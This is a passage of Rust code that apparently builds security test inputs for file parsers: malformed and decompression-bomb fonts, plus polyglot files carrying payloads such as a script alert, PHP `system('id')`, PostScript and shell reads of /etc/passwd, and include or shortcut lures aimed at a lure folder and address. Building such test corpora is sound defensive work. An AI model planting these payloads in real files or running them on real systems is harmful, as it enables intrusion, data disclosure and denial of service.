        let count = (tables.len() as u16).to_be_bytes();
        let list: Vec<u8> = tables
            .iter()
            .flat_map(|(tag, at, length)| [&tag[..], &[0; 4], &be32(*at), &be32(*length)].concat())
            .collect();
        [magic, &count, &[0; 6], &list, body].concat()
    };
    for magic in [&b"\0\x01\0\0"[..], b"OTTO", b"true"] {
        for tag in [
            b"glyf", b"loca", b"cmap", b"head", b"name", b"CFF ", b"GSUB", b"GPOS", b"kern",
            b"hmtx", b"SVG ", b"CBDT", b"COLR", b"fvar",
        ] {
            for (at, length) in [(0, u32::MAX), (u32::MAX, 4), (12, 0), (12, 400)] {
                let body = font(
                    magic,
                    &[(tag, at, length), (b"maxp", 12, 32), (b"head", 12, 54)],
                    &[0xff; 400],
                );
                cases.of("font").add(
                    format!(
                        "{} {} at {at}, {length} bytes",
                        magic.escape_ascii(),
                        tag.escape_ascii()
                    ),
                    body,
                );
            }
        }
    }
    let same: Vec<(&[u8; 4], u32, u32)> = vec![(b"name", 12, 4_000); 4_000];
    cases.of("font").add("4000 times the same table", font(b"\0\x01\0\0", &same, &[0; 90]));
    for count in [0u32, 1, 100_000, u32::MAX] {
        let body = [&b"ttcf\0\x02\0\0"[..], &be32(count), &be32(0).repeat(64)].concat();
        cases.of("font").add(format!("a collection of {count} of itself"), body);
    }
    for flavour in [b"wOFF", b"wOF2"] {
        for size in [0u32, 44, u32::MAX] {
            let head = [
                &flavour[..],
                b"\0\x01\0\0",
                &be32(size),
                &[255, 255, 0, 0],
                &be32(size),
                &[0; 24],
                &[0xff; 200],
            ]
            .concat();
            cases.of("font").add(format!("{} of {size} bytes", flavour.escape_ascii()), head);
        }
        let name = zlib_run(&[0], 1 << 30);
        let table =
            [&b"name"[..], &be32(64), &be32(name.len() as u32), &be32(1 << 30), &[0; 4]].concat();
        let head = [
            &flavour[..],
            b"\0\x01\0\0",
            &be32(90_000),
            &[0, 1, 0, 0],
            &be32(1 << 30),
            &[0; 24],
            &table,
            &name,
        ]
        .concat();
        cases.of("font").add(format!("{} that swells to a gigabyte", flavour.escape_ascii()), head);
    }
}

fn polyglots(cases: &mut Cases, lures: &Lures) {
    let playlist = format!("#EXTM3U\n#EXTINF:1,\nfile://{}/lure.ts\n", lures.folder);
    let fronts: [(&str, &[u8]); 9] = [
        ("GIF", b"GIF89a=1;/*"),
        ("JPEG", b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0"),
        ("PNG", b"\x89PNG\r\n\x1a\n"),
        ("PDF", b"%PDF-1.7\n"),
        ("zip", b"PK\x03\x04"),
        ("RIFF", b"RIFF\xff\xff\xff\xffAVI "),
        ("TIFF", b"II*\0\x08\0\0\0"),
        ("XML", b"<?xml version=\"1.0\"?>"),
        ("BMP", b"BM\x36\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0"),
    ];
    for (front, magic) in fronts {
        for (back, body) in [
            ("HTML", &b"<html><script>alert(1)</script></html>"[..]),
            ("a playlist", playlist.as_bytes()),
            ("a PDF", b"%PDF-1.4\n1 0 obj<</Pages 1 0 R>>endobj trailer<</Root 1 0 R>>"),
            (
                "a zip's end",
                b"PK\x05\x06\0\0\0\0\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\0\0",
            ),
            ("a film", b"\0\0\0\x18ftypisom\0\0\0\0isomavc1\0\0\0\x08moov"),
            ("PostScript", b"%!PS\n(/etc/passwd)(r)file 100 string readstring pop =\n"),
            ("a program", b"\x7fELF\x02\x01\x01\0"),
            ("PHP", b"<?php system('id'); ?>"),
            ("a page of noise", &[0x9d; 3_000]),
        ] {
            cases.add(format!("{front} and {back}"), [magic, body].concat());
        }
    }
    for (what, body) in [
        (
            "PostScript",
            format!(
                "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 99 99\n({}/lure.txt)(r)file\n",
                lures.folder
            ),
        ),
        ("a shell script", "#!/bin/sh\ncat /etc/passwd\n".to_owned()),
        ("a desktop entry", format!("[Desktop Entry]\nType=Link\nURL=http://{}/\n", lures.address)),
        (
            "an internet shortcut",
            format!(
                "[InternetShortcut]\nURL=http://{}/\nIconFile={}/lure.png\n",
                lures.address, lures.folder
            ),
        ),
        ("a C include", format!("#include \"{}/lure.txt\"\n", lures.folder)),
        (
            "LaTeX",
            format!(
                "\\documentclass{{article}}\\begin{{document}}\\input{{{}/lure.txt}}\\end{{document}}",
                lures.folder
            ),
        ),
        (
            "reStructuredText",
            format!(
                ".. include:: {0}/lure.txt\n.. raw:: html\n   :url: http://{1}/\n",
                lures.folder, lures.address
            ),
        ),
        ("AsciiDoc", format!("include::{}/lure.txt[]\n", lures.folder)),
    ] {
        cases.add(what, body.into_bytes());
    }
}
